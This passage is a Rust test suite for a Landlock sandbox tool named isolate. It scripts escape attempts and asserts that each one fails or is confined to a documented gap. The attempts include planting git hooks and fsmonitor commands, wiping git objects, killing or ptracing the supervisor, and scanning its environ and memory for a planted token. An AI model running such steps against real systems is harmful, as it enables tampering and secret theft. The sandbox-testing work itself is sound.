//! Escapes from the worktree: each attempt really runs inside the job (it prints `attempted` after
//! it, and where it can, the error the kernel gave), and its target is byte-for-byte unchanged
//! afterwards: the project (`git fsck` clean, `main` unmoved), and whatever else the attempt aims at
//! (the supervisor, the record, the home directory). Every job runs under the real Landlock sandbox:
//! on a machine without it isolate fails closed (status 125) and every test here fails.
//!
//! A few tests document a *gap* rather than a refusal (metadata changes): they assert what the gap
//! lets through, so that SECURITY.md's list of gaps is checked as much as its guarantees. A real
//! escape would be a test marked `#[ignore = "ESCAPE: ..."]`.

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::Duration;

use serde_json::Value;

use crate::support::*;

/// Runs `script` in a job of a fresh project; asserts the attempt ran and the project is unchanged.
fn attempt(script: &str) -> (TestEnv, Output) {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let out = attempt_in(&env, &repo, script);
    (env, out)
}

fn attempt_in(env: &TestEnv, repo: &Path, script: &str) -> Output {
    attempt_with(env, repo, &[], script, || {}).0
}

/// Runs `script` in a job of `repo` with `extra` options of `run`; `after` runs once the job has
/// ended and before the project is compared with its picture (a gap test asserts there what the gap
/// let through, then restores it, so that the comparison proves nothing else changed). Returns the
/// output and the report.
fn attempt_with(
    env: &TestEnv,
    repo: &Path,
    extra: &[&str],
    script: &str,
    after: impl FnOnce(),
) -> (Output, Value) {
    let pending = Pending::start(env, repo, extra, script, Stdio::null());
    pending.finish(env, after)
}

/// A job started by an attempt and not yet ended.
struct Pending {
    child: Child,
    repo: PathBuf,
    before: Snapshot,
    main: String,
    report: PathBuf,
    script: String,
}

impl Pending {
    fn start(env: &TestEnv, repo: &Path, extra: &[&str], script: &str, stdin: Stdio) -> Pending {
        use std::sync::atomic::{AtomicUsize, Ordering};
        static N: AtomicUsize = AtomicUsize::new(0);
        let before = Snapshot::take(repo);
        let main = env.git(repo, ["rev-parse", "main"]);
        let report = env.path().join(format!(
            "escape-report-{}.json",
            N.fetch_add(1, Ordering::Relaxed)
        ));
        let full = format!("{script}\necho attempted");
        let mut args = vec![
            "run".to_string(),
            "--worktree".into(),
            "--report".into(),
            report.display().to_string(),
        ];
        args.extend(extra.iter().map(|s| s.to_string()));
        args.extend(["--".into(), "sh".into(), "-c".into(), full]);
        let child = env.isolate_cmd(repo, &args).stdin(stdin).spawn().unwrap();
        Pending {
            child,
            repo: repo.to_path_buf(),
            before,
            main,
            report,
            script: script.to_string(),
        }
    }

    fn finish(self, env: &TestEnv, after: impl FnOnce()) -> (Output, Value) {
        let out = finish(self.child, LIMIT);
        assert_status(&out, 0);
        assert!(
            stdout(&out).ends_with("attempted\n"),
            "the attempt did not run: {}",
            stderr(&out)
        );
        let report = env.report(&self.report);
        // The job really ran under Landlock: isolate says so, and fails closed (125) when it cannot.
        assert_eq!(report["sandbox"]["enforced"], true, "{report}");
        after();
        self.before
            .assert_unchanged(&Snapshot::take(&self.repo), &self.script);
        assert_eq!(
            env.git(&self.repo, ["rev-parse", "main"]),
            self.main,
            "main moved: {}",
            self.script
        );
        env.assert_fsck(&self.repo);
        (out, report)
    }
}

/// `$ISOLATE_REPO/README` in a script.
const README: &str = "\"$ISOLATE_REPO/README\"";

#[track_caller]
fn assert_said(out: &Output, needle: &str) {
    assert!(
        stdout(out).contains(needle) || stderr(out).contains(needle),
        "expected {needle:?}\nstdout: {}\nstderr: {}",
        stdout(out),
        stderr(out)
    );
}

#[test]
fn write_by_absolute_path_into_the_project() {
    let (_, out) = attempt(
        "echo evil > \"$ISOLATE_REPO/README\"; echo evil > \"$ISOLATE_REPO/new-file\"; \
         mkdir \"$ISOLATE_REPO/newdir\"; rm -f \"$ISOLATE_REPO/src/lib.txt\"; \
         truncate -s 0 \"$ISOLATE_REPO/README\"; cd ..; echo evil > ../README",
    );
    assert!(
        stderr(&out).contains("Permission denied"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn write_through_a_symlink() {
    attempt("ln -s \"$ISOLATE_REPO/README\" link && echo evil > link; ln -s \"$ISOLATE_REPO\" dir && echo evil > dir/x");
}

#[test]
fn write_through_a_hardlink() {
    attempt("ln \"$ISOLATE_REPO/README\" hard; echo evil >> hard; ln \"$ISOLATE_REPO/.git/config\" cfg; echo evil >> cfg");
}

#[test]
fn rename_a_project_file() {
    attempt(
        "mv \"$ISOLATE_REPO/README\" \"$ISOLATE_REPO/README2\"; mv \"$ISOLATE_REPO/README\" ./stolen; \
         mv \"$ISOLATE_REPO/src\" \"$ISOLATE_REPO/src2\"",
    );
}

#[test]
fn git_dash_c_commit_in_the_project() {
    attempt(
        "git -C \"$ISOLATE_REPO\" commit -q --allow-empty -m evil; git -C \"$ISOLATE_REPO\" branch evil; \
         git -C \"$ISOLATE_REPO\" tag evil; git -C \"$ISOLATE_REPO\" stash",
    );
}

#[test]
fn git_dir_and_work_tree_pointed_at_the_project() {
    attempt(
        "GIT_DIR=\"$ISOLATE_REPO/.git\" GIT_WORK_TREE=\"$ISOLATE_REPO\" git commit -q --allow-empty -m evil; \
         GIT_DIR=\"$ISOLATE_REPO/.git\" git update-ref refs/heads/main HEAD~1; \
         GIT_DIR=\"$ISOLATE_REPO/.git\" GIT_WORK_TREE=\"$ISOLATE_REPO\" git checkout -q HEAD~1",
    );
}

#[test]
fn plant_a_hook_or_hookspath_or_fsmonitor_in_the_project() {
    attempt(
        "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > \"$ISOLATE_REPO/.git/hooks/post-commit\"; \
         mkdir -p \"$ISOLATE_REPO/.git/hooks\"; \
         git -C \"$ISOLATE_REPO\" config core.hooksPath /tmp; \
         git -C \"$ISOLATE_REPO\" config core.fsmonitor 'touch /tmp/pwned'; \
         echo '[core] fsmonitor = evil' >> \"$ISOLATE_REPO/.git/config\"; \
         echo '* filter=evil' > \"$ISOLATE_REPO/.git/info/attributes\"",
    );
}

#[test]
fn move_the_projects_main() {
    attempt(
        "git -C \"$ISOLATE_REPO\" update-ref refs/heads/main HEAD~1; \
         echo 0000000000000000000000000000000000000000 > \"$ISOLATE_REPO/.git/refs/heads/main\"; \
         git -C \"$ISOLATE_REPO\" pack-refs --all; git -C \"$ISOLATE_REPO\" symbolic-ref HEAD refs/heads/other",
    );
}

#[test]
fn overwrite_or_delete_objects_in_the_projects_store() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    // Both kinds of storage: loose objects and a pack.
    env.git(&repo, ["gc", "-q"]);
    fs::write(repo.join("loose.txt"), "loose\n").unwrap();
    env.git(&repo, ["add", "loose.txt"]);
    env.git(&repo, ["commit", "-q", "-m", "loose"]);
    attempt_in(
        &env,
        &repo,
        "for f in $(find \"$ISOLATE_REPO/.git/objects\" -type f); do true > \"$f\"; echo x >> \"$f\"; rm -f \"$f\"; \
         mv \"$f\" \"$f.moved\"; done; rm -rf \"$ISOLATE_REPO/.git/objects/pack\"; \
         git -C \"$ISOLATE_REPO\" gc --prune=now; git -C \"$ISOLATE_REPO\" repack -adq",
    );
}

#[test]
fn write_through_an_inherited_descriptor() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let before = Snapshot::take(&repo);
    // The caller holds the project's README open for appending on descriptor 5 when it starts isolate.
    let mut cmd = std::process::Command::new("sh");
    env.apply(&mut cmd);
    cmd.current_dir(&repo)
        .args([
            "-c",
            "exec 5>>README; exec \"$0\" run --worktree -- sh -c 'echo evil >&5; echo attempted'",
            BIN,
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let out = finish(cmd.spawn().unwrap(), LIMIT);
    assert_status(&out, 0);
    assert_eq!(stdout(&out), "attempted\n");
    assert!(
        stderr(&out).contains("Bad file descriptor"),
        "{}",
        stderr(&out)
    );
    before.assert_unchanged(&Snapshot::take(&repo), "inherited descriptor");
}

#[test]
fn write_via_proc_self_root() {
    attempt("echo evil > \"/proc/self/root$ISOLATE_REPO/README\"; echo evil > \"/proc/$$/root$ISOLATE_REPO/README\"");
}

#[test]
fn signal_a_process_outside_the_sandbox() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let mut outside = std::process::Command::new("sleep")
        .arg("60")
        .spawn()
        .unwrap();
    let pid = outside.id();
    let out = attempt_in(
        &env,
        &repo,
        &format!("kill -TERM {pid}; kill -KILL {pid}; kill -STOP {pid}"),
    );
    assert!(
        stderr(&out).contains("Operation not permitted"),
        "{}",
        stderr(&out)
    );
    assert!(alive(pid as i32), "the outside process was killed");
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    assert!(
        status.contains("State:\tS"),
        "outside process stopped: {status}"
    );
    outside.kill().unwrap();
    outside.wait().unwrap();
}

#[test]
fn below_abi_6_the_seccomp_layer_scopes_every_kind_of_signal() {
    // A kernel without Landlock's signal scope (capped at ABI 5): the broker judges each call that
    // signals another process. The job's own processes, its own group and a probe by signal 0 of
    // its own work; a process outside, by pid, thread, queue, pidfd or group, and kill(-1), do not.
    let env = TestEnv::new();
    let repo = env.repo("app");
    // In a group of its own, and kill(-1) by signal 0: were the sandbox off, the test would not
    // signal its own harness or every process of the user.
    use std::os::unix::process::CommandExt;
    let mut outside = Command::new("sleep")
        .arg("60")
        .process_group(0)
        .spawn()
        .unwrap();
    let pid = outside.id();
    let program = env.probe(
        "signals.py",
        &format!(
            r#"
import signal, subprocess
libc = ctypes.CDLL(None, use_errno=True)
def call(nr, *args):
    def f():
        if libc.syscall(nr, *[ctypes.c_long(a) for a in args]) != 0:
            e = ctypes.get_errno()
            raise OSError(e, os.strerror(e))
    return f
SYS_tkill, SYS_tgkill, SYS_rt_sigqueueinfo, SYS_pidfd_open, SYS_pidfd_send_signal = 200, 234, 129, 434, 424
outside = {pid}
info = ctypes.create_string_buffer(128)
ctypes.memmove(info, (ctypes.c_int * 3)(signal.SIGTERM, 0, -1), 12)
attempt("outside kill", lambda: os.kill(outside, signal.SIGTERM))
attempt("outside probe", lambda: os.kill(outside, 0))
attempt("outside tkill", call(SYS_tkill, outside, signal.SIGKILL))
attempt("outside tgkill", call(SYS_tgkill, outside, outside, signal.SIGKILL))
attempt("outside sigqueue", call(SYS_rt_sigqueueinfo, outside, signal.SIGTERM, ctypes.addressof(info)))
attempt("outside group", lambda: os.killpg(os.getpgid(outside), signal.SIGTERM))
attempt("everyone", lambda: os.kill(-1, 0))
fd = libc.syscall(SYS_pidfd_open, outside, 0)
attempt("outside pidfd", call(SYS_pidfd_send_signal, fd, signal.SIGKILL, 0, 0))
own = subprocess.Popen(["sleep", "60"], start_new_session=True)
attempt("own probe", lambda: os.kill(own.pid, 0))
attempt("own tgkill", call(SYS_tgkill, own.pid, own.pid, signal.SIGCONT))
attempt("own group", lambda: os.killpg(own.pid, signal.SIGCONT))
fd = libc.syscall(SYS_pidfd_open, own.pid, 0)
attempt("own pidfd", call(SYS_pidfd_send_signal, fd, signal.SIGTERM, 0, 0))
print("own ended by", -own.wait(), flush=True)
attempt("own group of zero", lambda: os.kill(0, 0))
"#
        ),
    );
    let (out, report) = env.policy_job(
        &repo,
        &[("ISOLATE_LANDLOCK_ABI_MAX", "5")],
        "default",
        &format!("python3 {program}"),
    );
    assert_status(&out, 0);
    assert_eq!(report["sandbox"]["landlock_abi"], 5, "{report}");
    let said = stdout(&out);
    for refused in [
        "outside kill",
        "outside probe",
        "outside tkill",
        "outside tgkill",
        "outside sigqueue",
        "outside group",
        "everyone",
        "outside pidfd",
    ] {
        assert!(
            said.contains(&format!("{refused}: EPERM")),
            "{refused}: {said}"
        );
    }
    for allowed in [
        "own probe",
        "own tgkill",
        "own group",
        "own pidfd",
        "own group of zero",
    ] {
        assert!(
            said.contains(&format!("{allowed}: ok")),
            "{allowed}: {said}"
        );
    }
    assert!(said.contains("own ended by 15"), "{said}");
    assert!(alive(pid as i32), "the outside process was killed");
    assert_eq!(report["sandbox"]["refused"]["process"], 8, "{report}");
    outside.kill().unwrap();
    outside.wait().unwrap();
}

#[test]
fn the_job_has_no_capabilities_and_no_new_privs() {
    // Meaningful as root (these tests run as root on CI): root's full capability sets must be gone.
    let (_, out) = attempt("grep -E '^(Cap(Inh|Prm|Eff|Bnd|Amb)|NoNewPrivs):' /proc/self/status");
    let text = stdout(&out);
    for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert!(
            text.contains(&format!("{set}:\t0000000000000000")),
            "{set} not empty: {text}"
        );
    }
    assert!(text.contains("NoNewPrivs:\t1"), "{text}");
}

#[test]
fn make_a_device_node() {
    let (_, out) = attempt("mknod ./null c 1 3; test -e ./null && echo made-device");
    assert!(!stdout(&out).contains("made-device"));
}

#[test]
fn connect_to_an_abstract_unix_socket_outside() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener};
    let env = TestEnv::new();
    let repo = env.repo("app");
    let name = format!("isolate-test-{}", std::process::id());
    let listener =
        UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
    listener.set_nonblocking(true).unwrap();
    let script = format!(
        "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); print('connected')\""
    );
    let out = attempt_in(&env, &repo, &script);
    assert!(!stdout(&out).contains("connected"), "{}", stdout(&out));
    assert!(stderr(&out).contains("PermissionError"), "{}", stderr(&out));
    assert!(
        listener.accept().is_err(),
        "the job reached the outside socket"
    );
}

/// `run -q -- python3 JOB ARGS` in `repo`.
fn python_job(env: &TestEnv, repo: &Path, job: &Path, args: &[&str]) -> Output {
    let mut argv = vec!["run", "-q", "--", "python3", job.to_str().unwrap()];
    argv.extend_from_slice(args);
    env.isolate(repo, argv)
}

/// A python script of the user's started outside any job (`script` with `args`), and the first line
/// it prints (what it set up: a port, an id); the rest of its output stays readable.
fn started_outside(
    env: &TestEnv,
    script: &Path,
    args: &[&str],
) -> (
    std::process::Child,
    std::io::BufReader<std::process::ChildStdout>,
    String,
) {
    let mut cmd = std::process::Command::new("python3");
    cmd.arg(script).args(args).stdout(Stdio::piped());
    env.apply(&mut cmd);
    let mut child = cmd.spawn().unwrap();
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    std::io::BufRead::read_line(&mut out, &mut line).unwrap();
    (child, out, line.trim().to_string())
}

/// Writes a helper program for a job to run (the default policy reads everything) and returns its
/// path, so that attempts in Python need no shell quoting.
fn program(env: &TestEnv, name: &str, text: &str) -> String {
    env.file(name, text).display().to_string()
}

// ---- Metadata: known gaps (Landlock ABI <= 7 has no right for chmod, chown, utime or xattrs) ----

#[test]
fn chmod_of_a_project_file_is_a_known_gap_but_its_content_stays() {
    // GAP (SECURITY.md, "Metadata"): no Landlock right covers chmod, and the job runs as the uid
    // that owns the project's files, so the kernel lets it change their modes. Content stays.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let readme = repo.join("README");
    let mode = fs::metadata(&readme).unwrap().permissions().mode();
    let script = format!("chmod 0777 {README} && echo chmod-done; echo evil >> {README}");
    let (out, _) = attempt_with(&env, &repo, &[], &script, || {
        let now = fs::metadata(&readme).unwrap().permissions().mode() & 0o7777;
        assert_eq!(
            now, 0o777,
            "chmod no longer goes through: update SECURITY.md"
        );
        // Undo the gap, so that the comparison below proves nothing else changed.
        fs::set_permissions(&readme, fs::Permissions::from_mode(mode)).unwrap();
    });
    assert_said(&out, "chmod-done");
    assert_said(&out, "Permission denied");
}

#[test]
fn chmod_reaches_files_the_policy_cannot_read_a_known_gap() {
    // GAP: the metadata gap is not limited to the project. Under `strict` the job cannot read a
    // private file in the home directory, yet it can make it world-readable for other local users
    // (no Landlock right is needed to resolve a path, none covers chmod).
    let env = TestEnv::new();
    let repo = env.repo("app");
    let key = env.home.join("key");
    fs::write(&key, "private\n").unwrap();
    fs::set_permissions(&key, fs::Permissions::from_mode(0o600)).unwrap();
    let (out, _) = attempt_with(
        &env,
        &repo,
        &["--policy", "strict"],
        "cat ~/key && echo READ-IT; chmod 0644 ~/key && echo chmod-done",
        || {},
    );
    assert!(!stdout(&out).contains("READ-IT"), "{}", stdout(&out));
    assert_said(&out, "Permission denied");
    assert_said(&out, "chmod-done");
    assert_eq!(
        fs::metadata(&key).unwrap().permissions().mode() & 0o777,
        0o644,
        "chmod no longer goes through: update SECURITY.md"
    );
}

#[test]
fn chown_of_a_project_file_is_a_known_gap_limited_to_what_its_owner_may_do() {
    // GAP: no Landlock right covers chown. Without capabilities the job can only "give" a file it
    // owns to its own uid and group: the ids cannot change, but the call goes through, and the
    // kernel clears the set-user-id bit (a real metadata change) as for any unprivileged chown.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let readme = repo.join("README");
    fs::set_permissions(&readme, fs::Permissions::from_mode(0o4755)).unwrap();
    let before = fs::metadata(&readme).unwrap();
    let script = format!(
        "chown \"$(id -u):$(id -g)\" {README} && echo chown-same-done; \
         chown 4242:4242 {README} || echo chown-other-refused; echo evil >> {README}"
    );
    let (out, _) = attempt_with(&env, &repo, &[], &script, || {
        let now = fs::metadata(&readme).unwrap();
        assert_eq!((now.uid(), now.gid()), (before.uid(), before.gid()));
        assert_eq!(
            now.mode() & 0o7777,
            0o755,
            "the set-user-id bit survived the job's chown: update SECURITY.md"
        );
        fs::set_permissions(&readme, fs::Permissions::from_mode(0o4755)).unwrap();
    });
    assert_said(&out, "chown-same-done");
    assert_said(&out, "chown-other-refused");
    // EPERM, or EINVAL in the namespaces tier, whose user namespace maps no uid 4242.
    let text = format!("{}{}", stdout(&out), stderr(&out));
    assert!(
        text.contains("Operation not permitted") || text.contains("Invalid argument"),
        "{text}"
    );
    assert_said(&out, "Permission denied");
}

#[test]
fn utime_of_a_project_file_is_a_known_gap_but_its_content_stays() {
    // GAP: no Landlock right covers utimensat; the owner may set any timestamp. (The snapshot does
    // not compare times, so the change is asserted here.)
    let env = TestEnv::new();
    let repo = env.repo("app");
    let readme = repo.join("README");
    let script =
        format!("touch -m -d @981173106 {README} && echo touch-done; echo evil >> {README}");
    let (out, _) = attempt_with(&env, &repo, &[], &script, || {
        assert_eq!(
            fs::metadata(&readme).unwrap().mtime(),
            981173106,
            "utime no longer goes through: update SECURITY.md"
        );
    });
    assert_said(&out, "touch-done");
    assert_said(&out, "Permission denied");
}

#[test]
fn xattrs_of_a_project_file_are_a_known_gap_for_user_names_only() {
    // GAP: no Landlock right covers setxattr. The owner may set `user.*` attributes; `trusted.*`,
    // `security.*` and file capabilities need capabilities the job does not have.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let readme = repo.join("README");
    let prog = program(
        &env,
        "xattr.py",
        "import errno, os, sys\n\
         for path, name in ((sys.argv[1], 'user.isolate-escape'), (sys.argv[1], 'trusted.isolate-escape'),\n\
                            (sys.argv[1], 'security.isolate-escape'), ('mine', 'security.capability')):\n\
         \x20   try:\n\
         \x20       os.setxattr(path, name, b'\\x01\\x00\\x00\\x02' + b'\\xff' * 16)\n\
         \x20       print('set', name)\n\
         \x20   except OSError as e:\n\
         \x20       print('refused', name, errno.errorcode[e.errno])\n\
         with open(sys.argv[1], 'a') as f: f.write('evil')\n",
    );
    let script = format!("cp /bin/true mine; python3 {prog} \"$ISOLATE_REPO/README\"");
    let mut user_set = false;
    let (out, _) = attempt_with(&env, &repo, &[], &script, || {
        let name = c"user.isolate-escape";
        let path = std::ffi::CString::new(readme.to_str().unwrap()).unwrap();
        let mut buf = [0u8; 64];
        // SAFETY: plain syscalls on a NUL-terminated path and a buffer of the length given.
        let n = unsafe {
            libc::getxattr(
                path.as_ptr(),
                name.as_ptr(),
                buf.as_mut_ptr().cast(),
                buf.len(),
            )
        };
        user_set = n > 0;
        if user_set {
            // SAFETY: as above.
            assert_eq!(
                // SAFETY: both are NUL-terminated strings that outlive the call.
                unsafe { libc::removexattr(path.as_ptr(), name.as_ptr()) },
                0
            );
        }
    });
    let text = stdout(&out);
    // On a filesystem without user xattrs the gap cannot show; anywhere else it must.
    assert!(
        user_set == text.contains("set user.isolate-escape")
            && (user_set || text.contains("refused user.isolate-escape EOPNOTSUPP")),
        "{text}"
    );
    for refused in [
        "refused trusted.isolate-escape EPERM",
        "refused security.isolate-escape EPERM",
        "refused security.capability EPERM",
    ] {
        assert!(text.contains(refused), "{refused}: {text}");
    }
    assert_said(&out, "Permission denied");
}

#[test]
fn make_devices_in_tmpdir_while_a_fifo_is_allowed() {
    let (_, out) = attempt(
        "mknod \"$TMPDIR/null\" c 1 3; mknod \"$TMPDIR/loop\" b 7 0; mknod ./zero c 1 5; \
         mkfifo \"$TMPDIR/fifo\" && echo fifo-made; \
         for f in \"$TMPDIR/null\" \"$TMPDIR/loop\" ./zero; do test -e \"$f\" && echo \"made $f\"; done",
    );
    assert_said(&out, "fifo-made");
    assert!(!stdout(&out).contains("made /"), "{}", stdout(&out));
    assert!(!stdout(&out).contains("made ./"), "{}", stdout(&out));
    assert_said(&out, "Permission denied");
}

// ---- The supervisor, and other processes outside the sandbox ----

#[test]
fn ptrace_or_read_the_memory_of_the_supervisor() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let prog = program(
        &env,
        "ptrace.py",
        "import ctypes, errno, sys\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]\n\
         pid = int(sys.argv[1])\n\
         for name, request in (('attach', 16), ('seize', 0x4206)):\n\
         \x20   ctypes.set_errno(0)\n\
         \x20   if libc.ptrace(request, pid, None, None) == 0:\n\
         \x20       print(name, 'succeeded')\n\
         \x20       libc.ptrace(17, pid, None, None)\n\
         \x20   else:\n\
         \x20       print(name, errno.errorcode[ctypes.get_errno()])\n\
         for f in ('mem', 'environ', 'auxv'):\n\
         \x20   try:\n\
         \x20       open(f'/proc/{pid}/{f}', 'rb').read(16)\n\
         \x20       print(f, 'read')\n\
         \x20   except OSError as e:\n\
         \x20       print(f, errno.errorcode[e.errno])\n",
    );
    // The job's main process is the shell: its parent is the supervisor.
    let script = format!("echo \"parent: $(cat /proc/$PPID/comm)\"; python3 {prog} $PPID");
    let out = attempt_in(&env, &repo, &script);
    let text = stdout(&out);
    for said in [
        "parent: isolate",
        "attach EPERM",
        "seize EPERM",
        "mem EACCES",
        "environ EACCES",
        "auxv EACCES",
    ] {
        assert!(text.contains(said), "{said}: {text}");
    }
    assert!(
        !text.contains("succeeded") && !text.contains(" read\n"),
        "{text}"
    );
}

/// A new pty, master and slave, both close-on-exec.
fn openpty() -> (std::os::fd::OwnedFd, std::os::fd::OwnedFd) {
    use std::os::fd::{FromRawFd, OwnedFd};
    let (mut master, mut slave) = (0, 0);
    // SAFETY: openpty writes two descriptors, which are owned from here on.
    let rc = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(rc, 0);
    // SAFETY: fresh descriptors from openpty, owned by nobody else; close-on-exec, so that only
    // what a test passes on is inherited.
    unsafe {
        libc::fcntl(master, libc::F_SETFD, libc::FD_CLOEXEC);
        libc::fcntl(slave, libc::F_SETFD, libc::FD_CLOEXEC);
        (OwnedFd::from_raw_fd(master), OwnedFd::from_raw_fd(slave))
    }
}

/// Runs `cmd` with a new pty's slave as its stdin (so that the job gets a terminal of its own
/// and a job-control monitor), to its end.
fn on_a_pty(mut cmd: std::process::Command) -> std::process::Output {
    let (master, slave) = openpty();
    let out = finish(cmd.stdin(Stdio::from(slave)).spawn().unwrap(), LIMIT);
    drop(master);
    out
}

#[test]
fn read_the_supervisors_secrets_through_the_monitor_of_an_interactive_job() {
    // In interactive mode the job's main process is a child of its job-control monitor, in the
    // job's own sandbox and session. Whatever process that is, the job must not find through it
    // what isolate keeps from the job: a secret variable of isolate's environment (removed from the
    // job's), in /proc/PID/environ or memory, nor a descriptor of the supervisor's (the pty's
    // master, the cgroup's directory and cgroup.procs, its sockets and pipes).
    let env = TestEnv::new();
    let repo = env.repo("app");
    let secret = "isolate-test-secret-4f1c9e";
    let prog = env.probe(
        "monitor.py",
        &format!(
            r#"
pid = os.getppid()
print("parent leads the session", os.getsid(0) == pid, flush=True)
def environ():
    if b"{secret}" in open(f"/proc/{{pid}}/environ", "rb").read():
        raise OSError(0, "the secret is there")
def memory():
    mem = open(f"/proc/{{pid}}/mem", "rb", buffering=0)
    for line in open(f"/proc/{{pid}}/maps"):
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        if "rw" not in line.split()[1]:
            continue
        try:
            mem.seek(start)
            if b"{secret}" in mem.read(end - start):
                raise OSError(0, "the secret is there")
        except OSError as e:
            if e.errno == 0:
                raise
def descriptors():
    fds = sorted(int(fd) for fd in os.listdir(f"/proc/{{pid}}/fd"))
    for fd in fds:
        print("descriptor", fd, os.readlink(f"/proc/{{pid}}/fd/{{fd}}"), flush=True)
attempt("environ", environ)
attempt("memory", memory)
attempt("descriptors", descriptors)
print("done", flush=True)
"#
        ),
    );
    let mut cmd = env.isolate_cmd(&repo, ["run", "-q", "--", "python3", &prog]);
    cmd.env("GITHUB_TOKEN", secret);
    let text = as_the_monitors_child(cmd);
    // Unreadable, or readable without the secret.
    for what in ["environ", "memory"] {
        assert!(!text.contains(&format!("{what}: 0")), "{what}: {text}");
    }
    // Unreadable, or none of the supervisor's (what isolate's caller left open is the caller's).
    let supervisors = text.lines().filter(|l| {
        l.starts_with("descriptor ")
            && ["ptmx", "cgroup", "socket:"]
                .iter()
                .any(|theirs| l.contains(theirs))
    });
    assert_eq!(supervisors.count(), 0, "{text}");
}

/// What a probe printed, run as `cmd` on a terminal of its own, after checking that it ran to its
/// end as the child of the job's job-control monitor (which leads the job's session).
fn as_the_monitors_child(cmd: std::process::Command) -> String {
    let out = on_a_pty(cmd);
    assert_status(&out, 0);
    let text = stdout(&out).replace('\r', "");
    assert!(text.contains("done"), "{text}{}", stderr(&out));
    assert!(
        text.contains("parent leads the session True"),
        "not a monitor's child: {text}"
    );
    text
}

#[test]
fn write_through_an_inherited_descriptor_the_monitor_of_an_interactive_job_holds() {
    // The caller holds the project's README open for appending on descriptor 5 when it starts an
    // interactive job. CMD never has it (close_range), but its job-control monitor, its parent in
    // the same sandbox, may be traced by it (same owner, same Landlock domain) and made to write
    // there: the monitor must hold nothing beyond its streams.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let before = Snapshot::take(&repo);
    let prog = env.probe(
        "traced.py",
        r#"
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = os.getppid()
print("parent leads the session", os.getsid(0) == pid, flush=True)
if libc.ptrace(16, pid, None, None) == 0:
    os.waitpid(pid, 0)
    libc.ptrace(17, pid, None, None)
    print("monitor traced", flush=True)
def descriptors():
    for fd in sorted(int(fd) for fd in os.listdir(f"/proc/{pid}/fd")):
        print("descriptor", fd, os.readlink(f"/proc/{pid}/fd/{fd}"), flush=True)
attempt("descriptors", descriptors)
print("done", flush=True)
"#,
    );
    let mut cmd = std::process::Command::new("sh");
    env.apply(&mut cmd);
    cmd.current_dir(&repo)
        .args([
            "-c",
            "exec 5>>README; exec \"$0\" run -q --worktree -- python3 \"$1\"",
            BIN,
            &prog,
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let text = as_the_monitors_child(cmd);
    let above_the_streams = text
        .lines()
        .filter(|l| l.starts_with("descriptor ") && !l.starts_with("descriptor 0 "))
        .filter(|l| !l.starts_with("descriptor 1 ") && !l.starts_with("descriptor 2 "));
    assert_eq!(above_the_streams.count(), 0, "{text}");
    before.assert_unchanged(&Snapshot::take(&repo), "inherited descriptor");
}

#[test]
fn kill_the_supervisor_from_inside_the_job() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let (out, report) = attempt_with(
        &env,
        &repo,
        &[],
        "echo \"parent: $(cat /proc/$PPID/comm)\"; \
         kill -KILL $PPID; kill -STOP $PPID; kill -TERM $PPID; kill -HUP $PPID; sleep 0.2",
        || {},
    );
    assert_said(&out, "parent: isolate");
    assert_said(&out, "Operation not permitted");
    // The supervisor lived to write the end: the job finished normally.
    assert_eq!(report["state"], "exited", "{report}");
    assert_eq!(report["exit"]["code"], 0, "{report}");
}

#[test]
fn write_the_supervisors_proc_files() {
    let (_, out) = attempt(
        "before=$(cat /proc/$PPID/oom_score_adj); echo 1000 > /proc/$PPID/oom_score_adj; \
         echo evil > /proc/$PPID/comm; echo 0 > /proc/$PPID/timerslack_ns; \
         [ \"$before\" = \"$(cat /proc/$PPID/oom_score_adj)\" ] && echo oom-unchanged; \
         echo \"comm: $(cat /proc/$PPID/comm)\"",
    );
    assert_said(&out, "oom-unchanged");
    assert_said(&out, "comm: isolate");
    assert_said(&out, "Permission denied");
}

#[test]
fn write_through_proc_pid_cwd_of_a_process_outside() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let mut outside = std::process::Command::new("sleep")
        .arg("60")
        .current_dir(&repo)
        .spawn()
        .unwrap();
    let pid = outside.id();
    let out = attempt_in(
        &env,
        &repo,
        &format!(
            "echo evil > /proc/{pid}/cwd/README; echo evil > /proc/{pid}/cwd/new-file; \
             mkdir /proc/{pid}/cwd/newdir; echo evil > \"/proc/{pid}/root$ISOLATE_REPO/README\"; \
             ls /proc/{pid}/cwd/ > /dev/null"
        ),
    );
    assert_said(&out, "Permission denied");
    outside.kill().unwrap();
    outside.wait().unwrap();
}

#[test]
fn write_through_proc_pid_fd_of_a_process_outside_holding_a_project_file() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let mut outside = std::process::Command::new("sh")
        .args(["-c", "exec 5>>README 6<README; exec sleep 60"])
        .current_dir(&repo)
        .spawn()
        .unwrap();
    let pid = outside.id();
